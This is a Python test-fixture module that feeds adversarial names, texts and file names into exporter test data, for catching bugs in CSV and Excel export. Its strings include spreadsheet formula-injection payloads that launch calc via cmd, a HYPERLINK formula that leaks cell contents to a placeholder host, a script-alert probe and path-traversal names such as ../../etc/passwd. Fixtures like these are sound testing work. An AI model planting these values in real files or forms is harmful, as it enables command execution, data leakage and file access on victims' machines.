"""Contents that break careless exporters. Every one of them has been seen in real accounts, or is one step beyond."""

PERIOD = 509  # nasty records come again every so many records, so that big sandboxes have many of them

LONG = ("Очень длинный текст, который не помещается в ячейку. " * 800)[:39_990] + "… КОНЕЦ."
CONTROL = "Управляющие знаки: \x00\x01\x07\x0b\x0c\x1b[31m\x1f\x7f и \ufeff\u200b\u2028\u202eконец"
UNDERSCORE = "Текст с _x000D_ и _x0041_ внутри"
BREAKS = "Первая строка\r\nвторая\nтретья\rчетвёртая\tс табуляцией\r\n"
QUOTES = 'Он сказал: "Да; нет, ""может быть""", и \'ушёл\'; 1,5;2'

NAMES = {
    1: '=HYPERLINK("http://example.test/?"&A1,"нажми")',
    2: "+7 900 000-00-02 перезвонить",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd",
    5: "Emoji 🚀👩‍👩‍👧‍👦🇷🇺 ООО «Юникод» é e\u0301",
    6: "\t=1+1 с табуляцией впереди",
    7: "Имя с \x01\x1f управляющими\x0b знаками",
    8: "Имя с _x000D_",
    9: "Имя в\r\nдве строки\tи табуляция",
    10: "Кавычки \"двойные\"; 'одинарные', «ёлочки»; и точка с запятой",
    11: "ООО «Двойник»",
    12: "ООО «Двойник»",
    13: "   пробелы по краям   ",
    14: "<b>Не HTML</b> & <script>alert(1)</script>",
    15: "А" * 250 + " конец",
    16: "0012",
    17: "12345678901234567890",
    18: "NULL",
    19: "1E5",
    20: "2025-01-02",
}

TEXTS = {
    1: '=cmd|"/C calc"!A0',
    2: "+1",
    3: "-1",
    4: "@import",
    5: "Ракета 🚀, семья 👩‍👩‍👧‍👦, флаг 🇷🇺",
    6: LONG,
    7: CONTROL,
    8: UNDERSCORE,
    9: BREAKS,
    10: QUOTES,
    11: "",
    12: "   ",
    13: "null",
}

FILE_NAMES = (
    "../../etc/passwd",
    "CON.txt",
    "a/b\\c:d*?.pdf",
    "Д" * 296 + ".pdf",
    "Договор.pdf",
    "Договор.pdf",
    "договор.PDF",
    "  пробелы .doc ",
    ".hidden",
    "имя\r\nс переводом\tстроки\x01.txt",
    "=1+1.xlsx",
    "",
    "..",
    "точка в конце.",
    "emoji 🚀.png",
    "no_extension",
    "C:\\Windows\\system32\\drivers.sys",
    "%2e%2e%2fescape.txt",
    "e\u0301.txt",
    "é.txt",
)


def name(index: int) -> str | None:
    """The nasty name that record `index` must bear, if any."""
    return NAMES.get(index % PERIOD)


def text(index: int) -> str | None:
    """The nasty text that record `index` must hold, if any."""
    return TEXTS.get(index % PERIOD)
